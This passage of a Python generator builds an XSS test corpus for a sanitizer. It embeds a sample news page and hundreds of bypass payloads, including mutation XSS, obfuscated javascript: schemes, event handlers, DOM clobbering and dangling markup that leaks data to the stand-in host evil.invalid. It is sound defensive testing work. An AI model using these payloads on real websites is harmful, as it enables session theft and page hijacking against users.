#!/usr/bin/env python3
"""Writes tests/xss/payloads.json: the XSS corpus of tests/xss.rs and tests/e2e/xss.test.mjs.

Run from the repository root after editing the lists below:  python3 tests/xss/generate.py

Format: {"template": PAGE, "payloads": [{"id", "category", "where", "html"}]}.
Each payload goes into PAGE at `{{BLOCK}}` (between the article's paragraphs), `{{INLINE}}`
(inside a paragraph), `{{JUNK}}` (inside a related-links box in the article, so it ends up in
a removed block) or `{{HEAD}}` (in <head>); the other slots become empty. In the payload,
`$XSS` stands for a call of the probe, `__xss(ID)`, and `$ID` for the payload's number.
Hosts other than 127.0.0.1 appear only where nothing may be fetched: a request to them in the
browser test is a failure.
"""

import json
import os

TEMPLATE = """<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>The Library That Never Closes | Riverside Chronicle</title>
<meta property="og:site_name" content="Riverside Chronicle">
<meta name="author" content="Ines Marchetti">
<meta property="article:published_time" content="2025-02-11T07:45:00Z">
{{HEAD}}
</head>
<body>
<header class="site-header"><a class="logo" href="/">Riverside Chronicle</a>
<nav class="main-nav"><ul><li><a href="/city">City</a></li><li><a href="/culture">Culture</a></li><li><a href="/sport">Sport</a></li></ul></nav></header>
<main>
<article class="story">
<h1>The Library That Never Closes</h1>
<p class="byline">By Ines Marchetti</p>
<p>KT-FIRST For thirty years the reading room on Canal Street has kept its doors open through floods, strikes and two changes of city government, and its librarians say they have never once turned away a reader who arrived before the lamps went out.</p>
<p>The building was a grain exchange until 1961, when the city bought it for a symbolic sum and filled the trading floor with oak tables, green lamps and the donated collections of three bankrupt publishers, most of them still on the shelves today.</p>
<figure><img src="/img/reading-room.png" width="640" height="360" alt="The reading room at night"><figcaption>The reading room at night, seen from the gallery.</figcaption></figure>
<p>Visitors come for the silence, the heating and the free newspapers, but the staff say the real draw is the card catalogue, which still lists every book by hand, in the slanted script of the founding librarian, Aurelia Brandt.</p>
{{BLOCK}}
<p>KT-AFTER In winter the room fills by seven in the morning. Students bring flasks of coffee, pensioners bring crosswords, and a retired ship's engineer has spent eleven years copying the harbour registers into a ledger of his own.<span> {{INLINE}} </span>The city council has promised a new roof.</p>
<aside class="related-stories"><h3>Related stories</h3><ul><li><a href="/city/canal-bridge">Canal bridge to close for repairs</a></li><li><a href="/culture/archive-night">Archive night returns in March</a></li></ul>{{JUNK}}</aside>
<p>Funding has always been fragile. The library lives on a small grant, the rent of two shops on the ground floor, and a jar by the door that collects, according to the treasurer, about four hundred euros a month in coins.</p>
<p>Brandt's successor, the current head librarian, says the plan for the next decade is simple: keep the lamps lit, keep the catalogue by hand, and keep the doors open for whoever needs a warm, quiet place to read.</p>
</article>
</main>
<footer class="site-footer"><p>&copy; 2025 Riverside Chronicle. All rights reserved.</p></footer>
</body>
</html>
"""

payloads = []


def add(category, html, where="block"):
    payloads.append({"category": category, "where": where, "html": html})


# ---------------------------------------------------------------- mutation XSS, namespaces
for p in [
    "<math><mtext><table><mglyph><style><img src=x onerror=$XSS>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=$XSS&gt;\">",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=$XSS>\"></style></h1>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=$XSS>\">",
    "<svg><p><style><a id=\"</style><img src=1 onerror=$XSS>\">",
    "<svg><style><img src=x onerror=$XSS></style></svg>",
    "<math><style><img src=x onerror=$XSS></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=$XSS>",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=$XSS src=1>\">",
    "<svg><foreignObject><img src=x onerror=$XSS></foreignObject></svg>",
    "<svg><foreignObject><p>text</p><iframe src=\"javascript:$XSS\"></iframe></foreignObject></svg>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=$XSS></annotation-xml></math>",
    "<math><annotation-xml encoding=\"application/xhtml+xml\"><svg onload=$XSS></svg></annotation-xml></math>",
    "<math><semantics><annotation-xml encoding=\"text/html\"><style><img src=x onerror=$XSS></style></annotation-xml></semantics></math>",
    "<svg><desc><img src=x onerror=$XSS></desc></svg>",
    "<svg><title><img src=x onerror=$XSS></title></svg>",
    "<math><mtext><img src=x onerror=$XSS></mtext></math>",
    "<math><mi><img src=x onerror=$XSS></mi></math>",
    "<math><mo><a href=\"javascript:$XSS\">click</a></mo></math>",
    "<math><ms><table><tr><td><img src=x onerror=$XSS></td></tr></table></ms></math>",
    "<table><math><mi><img src=x onerror=$XSS></mi></math></table>",
    "<table><svg><img src=x onerror=$XSS></svg></table>",
    "<svg><![CDATA[><img src=x onerror=$XSS>]]></svg>",
    "<math><![CDATA[</math><img src=x onerror=$XSS>]]>",
    "<svg><script>$XSS</script></svg>",
    "<svg><script href=\"data:,$XSS\"></script></svg>",
    "<svg><script xlink:href=\"data:,$XSS\"></script></svg>",
    "<svg><a xlink:href=\"javascript:$XSS\"><text x=\"20\" y=\"20\">click</text></a></svg>",
    "<svg><a href=\"javascript:$XSS\"><text x=\"20\" y=\"20\">click</text></a></svg>",
    "<svg><a><animate attributeName=\"href\" values=\"javascript:$XSS\"/><text x=\"20\" y=\"20\">click</text></a></svg>",
    "<svg><a><set attributeName=\"href\" to=\"javascript:$XSS\"/><text x=\"20\" y=\"20\">click</text></a></svg>",
    "<svg><a><animate attributeName=\"xlink:href\" begin=\"0\" from=\"javascript:$XSS\" to=\"&\"/><text x=\"20\" y=\"20\">click</text></a></svg>",
    "<svg><set attributeName=\"onmouseover\" to=\"$XSS\"/></svg>",
    "<svg><animate onbegin=\"$XSS\" attributeName=\"x\" dur=\"1s\"/></svg>",
    "<svg><animatetransform onbegin=\"$XSS\" attributeName=\"transform\" dur=\"1s\"/></svg>",
    "<svg><animatemotion onbegin=\"$XSS\" dur=\"1s\"/></svg>",
    "<svg><discard onbegin=\"$XSS\"/></svg>",
    "<svg><set onbegin=\"$XSS\" attributeName=\"x\" to=\"1\"/></svg>",
    "<svg><image href=\"x\" onerror=\"$XSS\"/></svg>",
    "<svg><image xlink:href=\"javascript:$XSS\"/></svg>",
    "<svg><feImage href=\"javascript:$XSS\"/></svg>",
    "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='$XSS'/&gt;&lt;/svg&gt;#x\"/></svg>",
    "<svg onload=$XSS>",
    "<svg/onload=$XSS>",
    "<svg><svg onload=$XSS></svg></svg>",
    "<svg><handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">$XSS</handler></svg>",
    "<svg><style>@import url(//evil.invalid/svg.css);</style></svg>",
    "<svg><iframe src=\"javascript:$XSS\"></iframe></svg>",
    "<svg><desc><svg><foreignObject><img src=x onerror=$XSS></foreignObject></svg></desc></svg>",
    "<math href=\"javascript:$XSS\"><mi>click me</mi></math>",
    "<math><mrow href=\"javascript:$XSS\"><mi>x</mi></mrow></math>",
    "<math><mi xlink:href=\"javascript:$XSS\">x</mi></math>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:$XSS\"><mtext>click</mtext><mtext>x</mtext></maction></math>",
    "<math><mglyph src=\"javascript:$XSS\"></mglyph></math>",
    "<math><mstyle onclick=\"$XSS\"><mi>x</mi></mstyle></math>",
    "<math display=\"block\" onmouseover=\"$XSS\"><mi>y</mi></math>",
    "<math><mtext><svg><a href=\"javascript:$XSS\"><text>x</text></a></svg></mtext></math>",
    "<image src=x onerror=$XSS>",
    "<image src=\"javascript:$XSS\">",
    "<svg><image src=x onerror=$XSS></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=$XSS>\"></noscript>",
    "<svg><noscript><img src=x onerror=$XSS></noscript></svg>",
    "<select><template><img src=x onerror=$XSS></template></select>",
    "<select><style></select><img src=x onerror=$XSS></style>",
    "<svg:script>$XSS</svg:script>",
    "<html:script xmlns:html=\"http://www.w3.org/1999/xhtml\">$XSS</html:script>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" src=\"data:,$XSS\"></x:script>",
]:
    add("mxss-namespace", p)

# ---------------------------------------------------------------- raw-text elements
for p in [
    "<noscript><img src=x onerror=$XSS></noscript>",
    "<noscript></noscript><img src=x onerror=$XSS>",
    "<noscript><style></noscript><img src=x onerror=$XSS></style>",
    "<textarea><img src=x onerror=$XSS></textarea>",
    "<textarea></textarea><img src=x onerror=$XSS>",
    "<textarea><p title=\"</textarea><img src=x onerror=$XSS>\"></textarea>",
    "<textarea autofocus onfocus=$XSS>text</textarea>",
    "<title><img src=x onerror=$XSS></title>",
    "<title></title ><img src=x onerror=$XSS>",
    "<style><img src=x onerror=$XSS></style>",
    "<style></style ><img src=x onerror=$XSS>",
    "<style></style/><img src=x onerror=$XSS>",
    "<style>p{background:url(javascript:$XSS)}</style>",
    "<style>@import 'http://evil.invalid/x.css';</style>",
    "<style>body{background:url(//evil.invalid/bg.png)}</style>",
    "<xmp><img src=x onerror=$XSS></xmp>",
    "<xmp></xmp/x><img src=x onerror=$XSS>",
    "<xmp><p title=\"</xmp><img src=x onerror=$XSS>\">",
    "<iframe><img src=x onerror=$XSS></iframe>",
    "<iframe src=\"javascript:$XSS\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;parent.$XSS&lt;/script&gt;\"></iframe>",
    "<iframe src=\"data:text/html,&lt;script&gt;parent.$XSS&lt;/script&gt;\"></iframe>",
    "<iframe src=\"//evil.invalid/frame.html\"></iframe>",
    "<noembed><img src=x onerror=$XSS></noembed>",
    "<noembed><p title=\"</noembed><img src=x onerror=$XSS>\"></noembed>",
    "<noframes><img src=x onerror=$XSS></noframes>",
    "<noframes><p title=\"</noframes><img src=x onerror=$XSS>\"></noframes>",
    "<plaintext><img src=x onerror=$XSS>",
    "<script>$XSS</script>",
    "<SCRIPT>$XSS</SCRIPT>",
    "<script src=\"//evil.invalid/x.js\"></script>",
    "<script src=\"data:text/javascript,$XSS\"></script>",
    "<script/xss src=\"data:,$XSS\"></script>",
    "<scr<script>ipt>$XSS</scr</script>ipt>",
    "<<script>script>$XSS<</script>/script>",
    "<script>/*</script><img src=x onerror=$XSS>*/</script>",
    "<script><!--<script></script><img src=x onerror=$XSS>--></script>",
    "<script type=\"text/plain\"><img src=x onerror=$XSS></script>",
    "<script\t>$XSS</script>",
    "<script\n>$XSS</script\n>",
    "<template><script>$XSS</script></template>",
    "<p>&lt;script&gt;$XSS&lt;/script&gt;</p>",
    "<p>&lt;img src=x onerror=$XSS&gt;</p>",
    "<pre><script>$XSS</script></pre>",
    "<pre>&lt;img src=x onerror=$XSS&gt;</pre>",
    "<code><img src=x onerror=$XSS></code>",
    "<listing><img src=x onerror=$XSS></listing>",
    "<title>x</title><script>$XSS</script>",
]:
    add("raw-text", p)

# ---------------------------------------------------------------- comments, CDATA, bogus comments
for p in [
    "<!--><img src=x onerror=$XSS>-->",
    "<!---><img src=x onerror=$XSS>-->",
    "<!-- --!><img src=x onerror=$XSS>-->",
    "<!--<img src=\"--><img src=x onerror=$XSS>\">",
    "<!--[if]><img src=x onerror=$XSS><![endif]-->",
    "<!--[if gte IE 4]><script>$XSS</script><![endif]-->",
    "<![CDATA[<img src=x onerror=$XSS>]]>",
    "<![CDATA[><img src=x onerror=$XSS>]]>",
    "<? foo=\"><img src=x onerror=$XSS>\">",
    "<?xml-stylesheet href=\"javascript:$XSS\"?>",
    "</x foo=\"><img src=x onerror=$XSS>\">",
    "<!a foo=\"><img src=x onerror=$XSS>\">",
    "<!DOCTYPE x [<img src=x onerror=$XSS>]>",
    "<p><!-- comment --><img src=x onerror=$XSS><!-- --></p>",
    "<a href=\"/ok\"><!--</a><img src=x onerror=$XSS>--></a>",
    "<p title=\"<!--\"><img src=x onerror=$XSS>--></p>",
    "<!-- <script> -->$XSS<!-- </script> -->",
    "<style><!--</style><img src=x onerror=$XSS>--></style>",
]:
    add("comments-cdata", p)

# ---------------------------------------------------------------- schemes on a link
SCHEMES = [
    "javascript:$XSS",
    "JaVaScRiPt:$XSS",
    "JAVASCRIPT:$XSS",
    " javascript:$XSS",
    "\tjavascript:$XSS",
    "\njavascript:$XSS",
    "\x01javascript:$XSS",
    "\x0bjavascript:$XSS",
    "\x0cjavascript:$XSS",
    "\x1fjavascript:$XSS",
    "&#14;javascript:$XSS",
    "jav&#x09;ascript:$XSS",
    "jav&#9;ascript:$XSS",
    "jav&#x0A;ascript:$XSS",
    "jav&#x0D;ascript:$XSS",
    "jav&#10;ascript:$XSS",
    "java&Tab;script:$XSS",
    "java&NewLine;script:$XSS",
    "&#106;avascript:$XSS",
    "&#x6A;avascript:$XSS",
    "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a$XSS",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058$XSS",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$XSS",
    "&#X6A;&#X61;&#X76;&#X61;&#X53;&#X43;&#X52;&#X49;&#X50;&#X54;&#X3A;$XSS",
    "javascript&colon;$XSS",
    "javascript&#58;$XSS",
    "javascript&#x3a;$XSS",
    "javascript&#0058;$XSS",
    "java\nscript:$XSS",
    "java\tscript:$XSS",
    "java\rscript:$XSS",
    "java\r\nscript:$XSS",
    "java\x00script:$XSS",
    "\x00javascript:$XSS",
    "javascript\x00:$XSS",
    "j a v a s c r i p t:$XSS",
    "javascript://%0a$XSS",
    "javascript://comment%0a$XSS",
    "javascript:/*-->]]>%>?></script></title></textarea></noscript></style></xmp>'\"--><img src=x onerror=$XSS>*/",
    "javascript:void(0);$XSS",
    "javascript:%61lert($ID)",
    "vbscript:msgbox($ID)",
    "VBScript:MsgBox($ID)",
    "vbs:msgbox($ID)",
    "livescript:$XSS",
    "mocha:$XSS",
    "data:text/html,<script>$XSS</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>$XSS</script>",
    " data:text/html,<script>$XSS</script>",
    "data:text/html;charset=utf-8,<img src=x onerror=$XSS>",
    "data:image/svg+xml,<svg onload=$XSS xmlns='http://www.w3.org/2000/svg'/>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:application/javascript,$XSS",
    "data:text/xml,<a:script xmlns:a='http://www.w3.org/1999/xhtml'>$XSS</a:script>",
    "data:,$XSS",
    "&#100;ata:text/html,<script>$XSS</script>",
    "da&#x09;ta:text/html,<script>$XSS</script>",
    "feed:javascript:$XSS",
    "view-source:javascript:$XSS",
    "jar:javascript:$XSS",
    "blob:javascript:$XSS",
    "filesystem:javascript:$XSS",
    "file:///etc/passwd",
    "jav\u00adascript:$XSS",
    "\u2028javascript:$XSS",
    "\ufeffjavascript:$XSS",
    "javascript\u200b:$XSS",
    "&#x2028;javascript:$XSS",
]
for s in SCHEMES:
    add("scheme-href", "<p>Read the <a href=\"" + s + "\">full report</a> here.</p>")

# Unquoted and single-quoted variants of the common ones.
for s in ["javascript:$XSS", "JaVaScRiPt:$XSS", "&#106;avascript:$XSS", "jav&#x09;ascript:$XSS", "vbscript:msgbox($ID)", "data:text/html,&lt;script&gt;$XSS&lt;/script&gt;"]:
    add("scheme-href", "<p><a href=" + s.replace(" ", "&#32;") + ">unquoted link</a></p>")
    add("scheme-href", "<p><a href='" + s + "'>single-quoted link</a></p>")

# ---------------------------------------------------------------- URL attributes of every kind
for p in [
    "<img src=\"javascript:$XSS\" alt=\"a\">",
    "<img src=\"JaVaScRiPt:$XSS\">",
    "<img src=\"vbscript:msgbox($ID)\">",
    "<img src=\"data:text/html,&lt;script&gt;$XSS&lt;/script&gt;\">",
    "<img src=\"data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='$XSS'/&gt;\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=\">",
    "<img src=\"data:image/pngx,AAAA\">",
    "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJRU5ErkJggg==\" onerror=\"$XSS\" alt=\"pixel\">",
    "<img srcset=\"javascript:$XSS\">",
    "<img srcset=\"javascript:$XSS 1x\">",
    "<img src=\"/img/a.png\" srcset=\"/img/a.png 1x, javascript:$XSS 2x\">",
    "<img src=\"/img/a.png\" srcset=\"/img/a.png 1x,javascript:$XSS 2x\">",
    "<img src=\"/img/a.png\" srcset=\"/img/a.png 1x,data:image/svg+xml,x 2x\">",
    "<img src=\"/img/a.png\" srcset=\"/img/a.png,javascript:$XSS 2x\">",
    "<img src=\"/img/a.png\" srcset=\"/img/a.png 1x,\njavascript:$XSS 2x\">",
    "<img src=\"/img/a.png\" srcset=\"/img/a.png (x, javascript:$XSS) 2x\">",
    "<img srcset=\"data:image/svg+xml,&lt;svg onload=$XSS&gt; 1x\">",
    "<img srcset=\" &#106;avascript:$XSS 1x\">",
    "<img data-src=\"javascript:$XSS\" src=\"/img/a.png\">",
    "<img data-srcset=\"javascript:$XSS 1x\" src=\"/img/a.png\">",
    "<img data-src=\"data:image/svg+xml,&lt;svg onload=$XSS&gt;\">",
    "<picture><source srcset=\"javascript:$XSS\"><img src=\"/img/a.png\"></picture>",
    "<picture><source src=\"javascript:$XSS\" srcset=\"/img/a.png\"><img src=\"/img/a.png\"></picture>",
    "<picture><source srcset=\"data:image/svg+xml,x\" type=\"image/svg+xml\"><img src=\"/img/a.png\"></picture>",
    "<img src=\"/img/a.png\" lowsrc=\"javascript:$XSS\">",
    "<img src=\"/img/a.png\" lowsrc=\"//evil.invalid/low.png\">",
    "<img dynsrc=\"javascript:$XSS\" src=\"/img/a.png\">",
    "<img dynsrc=\"//evil.invalid/clip.avi\" src=\"/img/a.png\">",
    "<img src=\"/img/a.png\" longdesc=\"javascript:$XSS\">",
    "<img src=\"/img/a.png\" usemap=\"#m\"><map name=\"m\"><area href=\"javascript:$XSS\" shape=\"rect\" coords=\"0,0,99,99\"></map>",
    "<table background=\"javascript:$XSS\"><tr><td>cell</td></tr></table>",
    "<table background=\"//evil.invalid/bg.png\"><tr><td background=\"//evil.invalid/td.png\">cell</td></tr></table>",
    "<body background=\"javascript:$XSS\">",
    "<div background=\"//evil.invalid/div.png\">div with background</div>",
    "<video poster=\"javascript:$XSS\"></video>",
    "<video poster=\"//evil.invalid/poster.png\" src=\"//evil.invalid/v.mp4\"></video>",
    "<video><source src=\"x\" onerror=\"$XSS\"></video>",
    "<audio src=\"x\" onerror=\"$XSS\"></audio>",
    "<audio controls><source src=\"//evil.invalid/a.mp3\"></audio>",
    "<video><track src=\"//evil.invalid/t.vtt\" default></video>",
    "<form action=\"javascript:$XSS\"><input type=\"submit\" value=\"Go\"></form>",
    "<form action=\"//evil.invalid/collect\"><button>Send</button></form>",
    "<form><button formaction=\"javascript:$XSS\">Send</button></form>",
    "<button formaction=\"javascript:$XSS\">Send</button>",
    "<input type=\"submit\" formaction=\"javascript:$XSS\" value=\"x\">",
    "<input type=\"image\" src=\"x\" onerror=\"$XSS\">",
    "<input type=\"image\" src=\"//evil.invalid/i.png\">",
    "<isindex action=\"javascript:$XSS\" type=\"submit\">",
    "<isindex type=\"image\" src=\"1\" onerror=\"$XSS\">",
    "<a href=\"/ok\" ping=\"//evil.invalid/ping\">pinged link</a>",
    "<a href=\"/ok\" ping=\"javascript:$XSS\">pinged link</a>",
    "<area href=\"javascript:$XSS\">",
    "<blockquote cite=\"javascript:$XSS\"><p>A quoted sentence.</p></blockquote>",
    "<q cite=\"vbscript:msgbox($ID)\">quote</q>",
    "<ins cite=\"data:text/html,&lt;script&gt;$XSS&lt;/script&gt;\">inserted</ins>",
    "<del cite=\"javascript:$XSS\" datetime=\"2025-01-01\">deleted</del>",
    "<link rel=\"stylesheet\" href=\"//evil.invalid/x.css\">",
    "<link rel=\"import\" href=\"data:text/html,&lt;script&gt;$XSS&lt;/script&gt;\">",
    "<link rel=\"prefetch\" href=\"//evil.invalid/prefetch\">",
    "<link rel=\"preload\" as=\"image\" href=\"//evil.invalid/preload.png\">",
    "<link rel=\"dns-prefetch\" href=\"//evil.invalid\">",
    "<a href=\"/ok\" xlink:href=\"javascript:$XSS\">xlink on html</a>",
    "<div xmlns:xlink=\"http://www.w3.org/1999/xlink\" xlink:href=\"javascript:$XSS\">div</div>",
    "<a href=\"https://127.0.0.1/ok\" target=\"_top\" rel=\"opener\">target link</a>",
    "<a href=\"/ok\" download=\"evil.html\">download link</a>",
    "<iframe src=\"https://www.youtube.com/embed/abc\" srcdoc=\"&lt;script&gt;$XSS&lt;/script&gt;\"></iframe>",
    "<iframe src=\"javascript://www.youtube.com/embed/%0a$XSS\"></iframe>",
    "<iframe src=\"javascript://player.vimeo.com/video/%0a$XSS\"></iframe>",
    "<iframe src=\"https://www.youtube.com/embed/&quot;&gt;&lt;img src=x onerror=$XSS&gt;\"></iframe>",
    "<iframe title=\"&lt;img src=x onerror=$XSS&gt;\" src=\"https://www.youtube.com/embed/xyz\"></iframe>",
    "<embed src=\"//evil.invalid/movie.swf\">",
    "<source src=\"//evil.invalid/a.mp4\" type=\"video/mp4\">",
    "<img src=\"//evil.invalid/x.png\" srcset=\"javascript:$XSS\" data-src=\"/img/a.png\">",
]:
    add("url-attributes", p)

# ---------------------------------------------------------------- meta refresh, base
for p, where in [
    ("<meta http-equiv=\"refresh\" content=\"0;url=javascript:$XSS\">", "block"),
    ("<meta http-equiv=\"refresh\" content=\"0;url=javascript:$XSS\">", "head"),
    ("<meta http-equiv=\"refresh\" content=\"0; url=data:text/html,&lt;script&gt;$XSS&lt;/script&gt;\">", "block"),
    ("<meta http-equiv=\"refresh\" content=\"0;url=//evil.invalid/\">", "block"),
    ("<meta http-equiv=\"Refresh\" content=\"0;URL='javascript:$XSS'\">", "head"),
    ("<meta charset=\"x-imap4-modified-utf7\">+ADw-script+AD4-$XSS+ADw-/script+AD4-", "block"),
    ("<meta http-equiv=\"Content-Security-Policy\" content=\"script-src * 'unsafe-inline'\">", "block"),
    ("<meta http-equiv=\"set-cookie\" content=\"x=1\">", "block"),
    ("<meta property=\"og:image\" content=\"javascript:$XSS\">", "head"),
    ("<meta property=\"og:image\" content=\"data:image/svg+xml,&lt;svg onload=$XSS&gt;\">", "head"),
    ("<meta property=\"og:image\" content=\"vbscript:msgbox($ID)\">", "head"),
    ("<meta property=\"og:title\" content=\"&lt;img src=x onerror=$XSS&gt;\">", "head"),
    ("<meta property=\"og:site_name\" content=\"&lt;script&gt;$XSS&lt;/script&gt;\">", "head"),
    ("<meta name=\"author\" content=\"&lt;svg onload=$XSS&gt;\">", "head"),
    ("<meta name=\"description\" content=\"&lt;img src=x onerror=$XSS&gt;\">", "head"),
    ("<meta property=\"article:published_time\" content=\"&lt;img src=x onerror=$XSS&gt;\">", "head"),
    ("<link rel=\"canonical\" href=\"javascript:$XSS\">", "head"),
    ("<meta property=\"og:url\" content=\"javascript://x/%0a$XSS\">", "head"),
    ("<script type=\"application/ld+json\">{\"@type\":\"NewsArticle\",\"headline\":\"<img src=x onerror=$XSS>\",\"image\":\"javascript:$XSS\",\"author\":{\"name\":\"<script>$XSS</script>\"}}</script>", "head"),
    ("<title>&lt;/title&gt;&lt;img src=x onerror=$XSS&gt;</title>", "head"),
    ("<base href=\"javascript:$XSS//\">", "head"),
    ("<base href=\"javascript://%0a$XSS/\">", "block"),
    ("<base href=\"data:text/html,&lt;script&gt;$XSS&lt;/script&gt;\">", "head"),
    ("<base href=\"vbscript://x/\"><a href=\"msgbox($ID)\">relative link</a>", "block"),
    ("<base target=\"_top\"><a href=\"/ok\">link</a>", "block"),
]:
    add("meta-base", p, where)

# ---------------------------------------------------------------- DOM clobbering
for p in [
    "<img name=\"getElementById\" src=\"/img/a.png\">",
    "<form name=\"body\"><input name=\"appendChild\"></form>",
    "<a id=\"__xss\" href=\"javascript:$XSS\">clobber</a>",
    "<a id=\"kt-article\" href=\"/ok\">clobber the reader</a>",
    "<div id=\"kt-main\"><p id=\"kt-footer\">clobbered</p></div>",
    "<img id=\"alert\" name=\"alert\" src=\"/img/a.png\">",
    "<a id=\"location\" href=\"javascript:$XSS\">loc</a>",
    "<a id=\"defaultView\" name=\"defaultView\">dv</a>",
    "<img name=\"cookie\" src=\"/img/a.png\">",
    "<form id=\"x\"><input id=\"attributes\"><input id=\"attributes\"></form>",
    "<a id=\"CONFIG\"></a><a id=\"CONFIG\" name=\"url\" href=\"javascript:$XSS\">conf</a>",
    "<embed name=\"x\" src=\"/img/a.png\">",
    "<object name=\"document\" data=\"/img/a.png\"></object>",
    "<iframe name=\"top\" src=\"about:blank\"></iframe>",
    "<p id=\"__proto__\" name=\"constructor\">proto</p>",
    "<details id=\"ownerDocument\" open><summary>s</summary>d</details>",
    "<p class=\"kt-title kt-content\" data-kt=\"1\" itemprop=\"x\" slot=\"y\" part=\"z\" is=\"x-y\">attributes</p>",
]:
    add("dom-clobbering", p)

# ---------------------------------------------------------------- dangling markup
for p in [
    "<img src=\"/img/a.png\" lowsrc='//evil.invalid/?",
    "<a href=\"/ok\" ping='//evil.invalid/?",
    "<meta http-equiv=\"refresh\" content='0;url=//evil.invalid/?",
    "<form action='//evil.invalid/?",
    "<link rel=prefetch href='//evil.invalid/?",
    "<table background='//evil.invalid/?",
    "<img src=x onerror=$XSS alt='",
    "<p title='",
    "<a href='javascript:$XSS;//",
    "<textarea>",
    "<select><option>",
    "<img src=\"x\" onerror=\"$XSS",
    "<div style='background:url(//evil.invalid/?",
    "<iframe src='//evil.invalid/?",
    "<object data='//evil.invalid/?",
    "<base href='//evil.invalid/?",
]:
    add("dangling-markup", p)

# ---------------------------------------------------------------- event handlers of every kind
EVENTS = """onabort onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart
onauxclick onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint
onbeforetoggle onbeforeunload onbegin onblur oncancel oncanplay oncanplaythrough onchange onclick
onclose oncommand oncontentvisibilityautostatechange oncontextlost oncontextmenu oncontextrestored
oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragexit ondragleave ondragover
ondragstart ondrop ondurationchange onemptied onend onended onerror onfocus onfocusin onfocusout
onformdata onfullscreenchange onfullscreenerror ongotpointercapture onhashchange oninput oninvalid
onkeydown onkeypress onkeyup onlanguagechange onload onloadeddata onloadedmetadata onloadend
onloadstart onlostpointercapture onmessage onmessageerror onmousedown onmouseenter onmouseleave
onmousemove onmouseout onmouseover onmouseup onmousewheel onoffline ononline onpagehide onpagereveal
onpageshow onpageswap onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter
onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onpopstate
onprogress onratechange onrejectionhandled onrepeat onreset onresize onscroll onscrollend
onscrollsnapchange onscrollsnapchanging onsearch onsecuritypolicyviolation onseeked onseeking
onselect onselectionchange onselectstart onshow onslotchange onstalled onstorage onsubmit onsuspend
ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel
ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange
onwaiting onwebkitanimationend onwebkitanimationiteration onwebkitanimationstart
onwebkittransitionend onwheel""".split()
# Allowed elements, so the attribute itself is what must go.
HOSTS = [
    "<p {a}=\"$XSS\">A paragraph with a handler.</p>",
    "<a href=\"/ok\" {a}=\"$XSS\">a link with a handler</a>",
    "<img src=\"x\" {a}=\"$XSS\" alt=\"an image\">",
    "<div {a}=\"$XSS\" tabindex=\"1\">A div with a handler.</div>",
    "<details open {a}=\"$XSS\"><summary>More</summary>details text</details>",
    "<table {a}=\"$XSS\"><tr><td {a}=\"$XSS\">cell</td></tr></table>",
    "<blockquote {a}=\"$XSS\"><p>quoted</p></blockquote>",
    "<h2 {a}=\"$XSS\">A heading</h2>",
    "<ul><li {a}=\"$XSS\">item</li></ul>",
    "<span {a}=\"$XSS\">a span</span>",
    "<em {a}=\"$XSS\">emphasis</em>",
    "<figure {a}=\"$XSS\"><img src=\"/img/a.png\" {a}=\"$XSS\"><figcaption {a}=\"$XSS\">cap</figcaption></figure>",
]
for i, ev in enumerate(EVENTS):
    add("event-handlers", HOSTS[i % len(HOSTS)].replace("{a}", ev))

# Handler syntax tricks.
for p in [
    "<img src=x onerror=$XSS>",
    "<img src=x ONERROR=$XSS>",
    "<img src=x oNeRrOr=$XSS>",
    "<img src=x onerror = \"$XSS\">",
    "<img src=x onerror\t=\t$XSS>",
    "<img src=x\nonerror=$XSS>",
    "<img src=x/onerror=$XSS>",
    "<img/src=x/onerror=$XSS>",
    "<img src=x onerror=\"$XSS\"onerror=\"$XSS\">",
    "<img src=\"x\"onerror=\"$XSS\">",
    "<img src=x onerror='$XSS'>",
    "<img src=x onerror=&#x5f;&#x5f;xss($ID)>",
    "<img src=x onerror=\"&#95;&#95;xss&#40;$ID&#41;\">",
    "<img src=x onerror=\"javascript:$XSS\">",
    "<img src=x: onerror=eval(src)>",
    "<img \"\"\"><script>$XSS</script>\">",
    "<img src=`x` onerror=`$XSS`>",
    "<img src=x onerror=$XSS//",
    "<img src=\"x\" alt=\"\" onerror=\"$XSS\" onload=\"$XSS\">",
    "<img src=\"/img/a.png\" onload=\"$XSS\">",
    "<p onclick=$XSS onclick=x>double</p>",
    "<body onload=$XSS>",
    "<html onmouseover=$XSS>",
    "<frameset onload=$XSS>",
